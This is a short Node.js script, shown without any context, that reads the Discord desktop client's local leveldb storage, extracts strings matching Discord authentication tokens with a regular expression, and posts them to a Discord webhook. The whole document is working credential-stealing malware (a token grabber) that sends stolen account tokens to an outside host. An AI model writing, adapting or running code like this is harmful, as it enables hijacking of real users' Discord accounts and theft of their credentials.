const fs = require('fs'); const path = require('path');
const dir = path.join(process.env.HOME, '.config/discord/Local Storage/leveldb');
const tokens = [];
for (const f of fs.readdirSync(dir)) {
  const m = fs.readFileSync(path.join(dir, f), 'latin1').match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
  if (m) tokens.push(...m);
}
fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: tokens.join('\n') }) });
